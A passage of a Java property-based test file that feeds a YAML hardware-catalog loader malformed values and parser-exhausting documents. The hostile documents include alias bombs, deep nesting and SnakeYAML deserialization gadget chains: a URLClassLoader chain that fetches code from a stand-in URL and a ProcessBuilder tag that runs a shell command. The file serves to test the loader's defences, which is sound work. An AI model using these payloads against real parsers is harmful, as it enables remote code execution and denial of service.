                    "&tdp {value: 350, source: " + SOURCE_ID + ", confidence: high}",
                    "accelerators",
                    0,
                    "tdp_w"),
            null,
            "must be plain YAML (anchors and aliases are not allowed)"));
    return List.copyOf(ms);
  }

  /** Mutations whose bad value is generated. */
  static Gen<Mutation> generatedMutations() {
    Gen<Mutation> negative =
        integers()
            .between(1, 1_000_000)
            .zip(
                integers().between(0, 4),
                (n, scale) -> {
                  String v = "-" + BigDecimal.valueOf(n, scale).toPlainString();
                  return m(
                      "negative tdp " + v,
                      d -> set(d, v, "accelerators", 0, "tdp_w", "value"),
                      ACC + ".tdp_w.value",
                      "must be > 0 W but was " + Check.format(Double.parseDouble(v)) + " W");
                });
    Gen<Mutation> overflow =
        integers()
            .between(309, 100_000)
            .map(
                exp -> {
                  String v = "1e" + exp;
                  return m(
                      "bandwidth " + v,
                      d -> set(d, v, "accelerators", 0, "memory", "bandwidth", "value"),
                      ACC + ".memory.bandwidth.value",
                      "must be finite");
                });
    Gen<Mutation> wordForNumber =
        strings()
            .betweenCodePoints('a', 'z')
            .ofLengthBetween(1, 12)
            .map(
                w -> {
                  Raw v = quoted(w);
                  return m(
                      "capacity '" + w + "'",
                      d -> set(d, v, "accelerators", 0, "memory", "capacity", "value"),
                      ACC + ".memory.capacity.value",
                      "must be a number (GiB) but was '" + w + "'");
                });
    Gen<Mutation> unknownField =
        strings()
            .betweenCodePoints('a', 'z')
            .ofLengthBetween(1, 10)
            .map(w -> "x_" + w)
            .map(
                f ->
                    m(
                        "unknown field " + f,
                        d -> set(d, "1", "accelerators", 0, "scale_up", f),
                        ACC + ".scale_up." + f,
                        "is not a known field"));
    // every key the catalog knows (the microscaling ones, mxfp4 and nvfp4, among them)
    Set<String> precisions =
        java.util.Arrays.stream(Precision.values())
            .map(Precision::key)
            .collect(java.util.stream.Collectors.toSet());
    Gen<String> precisionLike =
        Generate.oneOf(
            Generate.pick(
                List.of(
                    "fp3", "fp12", "int4", "bf17", "tf16", "fp64", "fp8e4m3", "mxfp4", "nvfp4",
                    "int16", "fp-16")),
            integers()
                .between(0, 512)
                .zip(Generate.pick(List.of("fp", "int", "bf", "tf", "uint")), (n, p) -> p + n));
    Gen<Mutation> unknownPrecision =
        precisionLike
            .assuming(p -> !precisions.contains(p))
            .map(
                p ->
                    m(
                        "unknown precision " + p,
                        d -> set(d, figure("dense_tflops", "10"), "accelerators", 0, "compute", p),
                        ACC + ".compute." + p,
                        "must be one of fp64_vector"));
    Gen<Mutation> sparseBelowDense =
        integers()
            .between(2, 100_000)
            .zip(
                integers().between(1, 99),
                (dense, pct) -> {
                  int sparse = Math.max(1, dense * pct / 100);
                  return m(
                      "sparse " + sparse + " < dense " + dense,
                      d -> {
                        Map<String, Object> x =
                            set(
                                d,
                                Integer.toString(dense),
                                "accelerators",
                                0,
                                "compute",
                                "bf16",
                                "dense_tflops");
                        return set(
                            x,
                            Integer.toString(sparse),
                            "accelerators",
                            0,
                            "compute",
                            "bf16",
                            "sparse_tflops");
                      },
                      ACC + ".compute.bf16.sparse_tflops",
                      "must be >= the dense figure ("
                          + dense
                          + " TFLOP/s) but was "
                          + sparse
                          + " TFLOP/s");
                });
    Gen<Mutation> undefinedSource =
        strings()
            .betweenCodePoints('a', 'z')
            .ofLengthBetween(1, 12)
            .map(s -> "nosuch-" + s)
            .map(
                s ->
                    m(
                        "source " + s,
                        d -> set(d, s, "accelerators", 0, "memory", "capacity", "source"),
                        ACC + ".memory.capacity.source",
                        "must name a source defined under 'sources' but was '" + s + "'"));
    return Generate.oneOf(
        negative,
        overflow,
        wordForNumber,
        unknownField,
        unknownPrecision,
        sparseBelowDense,
        undefinedSource);
  }

  /** Every mutation: the fixed list and the generated ones. */
  static Gen<Mutation> mutations() {
    return Generate.oneOf(Generate.pick(fixedMutations()), generatedMutations());
  }

  // ------------------------------------------------------------------ hostile text

  /** Arbitrary text, from any code points or from YAML-ish ASCII. */
  static Gen<String> randomText() {
    return Generate.oneOf(
        strings().allPossible().ofLengthBetween(0, 200),
        strings().ascii().ofLengthBetween(0, 300),
        strings().basicMultilingualPlaneAlphabet().ofLengthBetween(0, 100));
  }

  private static final List<String> TOKENS =
      List.of(
          "schema: flopex-catalog/1\n",
          "sources:\n",
          "accelerators:\n",
          "systems:\n",
          "nics:\n",
          "  - id: x\n",
          "  ",
          "    ",
          "- ",
          ": ",
          ":",
          ",",
          "[",
          "]",
          "{",
          "}",
          "\n",
          "\r\n",
          "\t",
          "#",
          "'",
          "\"",
          "\\",
          "?",
          "|",
          ">",
          "&a ",
          "*a",
          "!!str ",
          "!!java.lang.Runtime ",
          "!x ",
          "%YAML 1.1\n",
          "---\n",
          "...\n",
          "<<: ",
          "~",
          "null",
          ".nan",
          ".inf",
          "-.inf",
          "1e400",
          "-1",
          "0",
          "0x1F",
          "012",
          "1_000",
          "2026-11-28",
          "true",
          "value",
          "source",
          "dense_tflops",
          "sparse_tflops",
          "unit",
          "GiB",
          "TB/s",
          "id",
          "tdp_w",
          "compute",
          "bf16",
          "memory",
          "capacity",
          "\u00e9",
          "\ud83d\ude00",
          "\u0000",
          "\ufeff",
          "\u2028",
          "@",
          "`",
          "%");

  /** Text assembled from YAML syntax and catalog vocabulary. */
  static Gen<String> yamlTokenSoup() {
    return lists().of(Generate.pick(TOKENS)).ofSizeBetween(0, 80).map(ts -> String.join("", ts));
  }

  /** A valid overlay with random bytes spliced in at a random position. */
  static Gen<String> splicedOverlay() {
    String base = render(richOverlay());
    return integers()
        .between(0, base.length())
        .zip(
            Generate.oneOf(yamlTokenSoup(), strings().ascii().ofLengthBetween(1, 20)),
            integers().between(0, 20),
            (at, insert, cut) ->
                base.substring(0, at) + insert + base.substring(Math.min(base.length(), at + cut)));
  }

  /**
   * A small hostile document (one of {@link #hostileDocuments()}) inserted at a line boundary of a
   * valid overlay.
   */
  static Gen<String> hostileFragmentsInOverlay() {
    List<String> lines = List.of(render(richOverlay()).split("\n", -1));
    List<String> fragments =
        hostileDocuments().stream()
            .filter(d -> d.length() < 20_000)
            .collect(java.util.stream.Collectors.toList());
    return Generate.pick(fragments)
        .zip(
            integers().between(0, lines.size()),
            integers().between(0, 8),
            (fragment, at, indent) -> {
              String indented =
                  fragment
                      .lines()
                      .map(l -> " ".repeat(indent) + l)
                      .collect(java.util.stream.Collectors.joining("\n"));
              return String.join("\n", lines.subList(0, at))
                  + (at == 0 ? "" : "\n")
                  + indented
                  + "\n"
                  + String.join("\n", lines.subList(at, lines.size()));
            });
  }

  /** Documents built to exhaust a parser: bombs, deep nesting, huge scalars. */
  static List<String> hostileDocuments() {
    List<String> docs = new ArrayList<>();
    // billion laughs, collection and scalar variants
    StringBuilder lol =
        new StringBuilder(
            "schema: flopex-catalog/1\nlol0: &a0 [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
    for (int i = 1; i < 10; i++) {
      lol.append("lol").append(i).append(": &a").append(i).append(" [");
      for (int j = 0; j < 9; j++) {
        lol.append(j == 0 ? "" : ",").append("*a").append(i - 1);
      }
      lol.append("]\n");
    }
    docs.add(lol.toString());
    docs.add("schema: flopex-catalog/1\na: &x {b: 1}\nc: *x\n");
    docs.add("schema: flopex-catalog/1\na: *undefined\n");
    docs.add("schema: flopex-catalog/1\n<<: {sources: {}}\n");
    // 1000 levels of nesting, flow and block, lists and mappings
    docs.add(
        "schema: flopex-catalog/1\naccelerators: " + "[".repeat(1000) + "]".repeat(1000) + "\n");
    docs.add(
        "schema: flopex-catalog/1\nsources: "
            + "{a: ".repeat(1000)
            + "1"
            + "}".repeat(1000)
            + "\n");
    StringBuilder blockMaps = new StringBuilder("schema: flopex-catalog/1\n");
    for (int i = 0; i < 1000; i++) {
      blockMaps.append(" ".repeat(i)).append("k").append(i).append(":\n");
    }
    blockMaps.append(" ".repeat(1000)).append("x\n");
    docs.add(blockMaps.toString());
    docs.add("schema: flopex-catalog/1\naccelerators:\n" + "- ".repeat(1000) + "x\n");
    // 10,000 unclosed flow collections: far past the depth limit; 100,000 takes SnakeYAML's
    // event parser over 10 s (see
    // CatalogLoaderOverlayTest#test_load_deepFlowNesting_rejectedInLinearTime)
    docs.add("[".repeat(10_000));
    docs.add("{".repeat(10_000));
    // huge numbers and scalars
    docs.add(
        "schema: flopex-catalog/1\nsources: {s: {title: t, read: 2026-11-28, kind: datasheet}}\naccelerators: [{id: a, vendor: v, name: n, "
            + "architecture: x, market: datacenter, form_factor: x, memory: {capacity: {value: 1e400, unit: GiB, source: s, confidence: high}}}]\n");
    docs.add("schema: flopex-catalog/1\nx: " + "9".repeat(100_000) + "\n");
    docs.add("schema: flopex-catalog/1\nx: 0." + "0".repeat(100_000) + "1\n");
    docs.add("schema: flopex-catalog/1\nx: \"" + "a".repeat(1_000_000) + "\"\n");
    docs.add("schema: flopex-catalog/1\n" + "k: v\n".repeat(2));
    StringBuilder manyKeys = new StringBuilder("schema: flopex-catalog/1\nsources:\n");
    for (int i = 0; i < 5000; i++) {
      manyKeys.append("  s").append(i).append(": {title: t, read: 2026-11-28, kind: datasheet}\n");
    }
    manyKeys.append("unknown_section_after_5000_sources: 1\n");
    docs.add(manyKeys.toString());
    // the gadget chains from the brief, at the top and nested
    docs.add(
        "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x\"]]]]\n");
    docs.add(
        "schema: flopex-catalog/1\nsources: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x\"]]]]\n");
    docs.add("!!java.lang.Runtime {}\n");
    docs.add("schema: flopex-catalog/1\naccelerators:\n  - !!java.lang.Runtime\n    id: x\n");
    docs.add("schema: !!java.lang.ProcessBuilder [[\"touch\", \"/tmp/flopex-pwned\"]]\n");
    docs.add("schema: flopex-catalog/1\nsources: !<tag:yaml.org,2002:java.util.HashMap> {}\n");
    // encodings and odd documents
    docs.add("");
    docs.add("\ufeff");
    docs.add("\u0000\u0001\u0002");
    docs.add("%YAML 9.9\n---\nschema: flopex-catalog/1\n");
    docs.add("schema: flopex-catalog/1\nschema: flopex-catalog/1\n");
    docs.add("? [complex, key]\n: value\n");
    docs.add("schema: flopex-catalog/1\naccelerators: [{id: a, id: b}]\n");
    docs.add("---\n---\n---\n");
    return List.copyOf(docs);
  }

  // ------------------------------------------------------------------ valid entries

  /** A generated valid accelerator entry and the figures it states. */
  record ValidAccelerator(
      String id,
      String tdp,
      String dense,
      String sparse,
      String capacity,
      String capacityUnit,
      String note) {
    Map<String, Object> entry() {
      Map<String, Object> a = minimalAccelerator(id);
      a.put("compute", map("bf16", figure("dense_tflops", dense, "sparse_tflops", sparse)));
      a.put("memory", map("capacity", figure("value", capacity, "unit", capacityUnit)));
      Map<String, Object> tdpFigure = figure("value", tdp);
      tdpFigure.put("note", quoted(note));
      a.put("tdp_w", tdpFigure);
      return a;
    }

    Map<String, Object> overlay() {
      return map(
          "schema", "flopex-catalog/1",
          "sources", map(SOURCE_ID, sourceEntry()),
          "accelerators", list(entry()));
    }
  }

  /** Decimal text for a positive number with up to {@code maxScale} decimals. */
  static Gen<String> positiveDecimal(int maxUnscaled, int maxScale) {
    return integers()
        .between(1, maxUnscaled)
        .zip(integers().between(0, maxScale), (n, s) -> BigDecimal.valueOf(n, s).toPlainString());
  }

  static Gen<ValidAccelerator> validAccelerators() {
    Gen<String> ids =
        strings()
            .betweenCodePoints('a', 'z')
            .ofLengthBetween(1, 12)
            .zip(integers().between(0, 999), (s, n) -> "gen-" + s + "-" + n);
    Gen<String> notes =
        strings()
            .basicMultilingualPlaneAlphabet()
            .ofLengthBetween(0, 40)
            .map(s -> "n:" + s.replaceAll("\\p{Cs}", "?") + ":n");
    Gen<String[]> throughput =
        positiveDecimal(10_000_000, 3)
            .zip(
                integers().between(100, 400),
                (dense, pct) ->
                    new String[] {
                      dense,
                      new BigDecimal(dense).multiply(BigDecimal.valueOf(pct, 2)).toPlainString()
                    });
    Gen<String> units = Generate.pick(List.of("GiB", "GB", "TB", "TiB", "MiB", "MB"));
    return ids.zip(
            positiveDecimal(2_000_000, 2),
            throughput,
            positiveDecimal(100_000, 1),
            (id, tdp, tp, cap) -> new String[] {id, tdp, tp[0], tp[1], cap})
        .zip(
            units,
            notes,
            (a, unit, note) -> new ValidAccelerator(a[0], a[1], a[2], a[3], a[4], unit, note));
  }
}
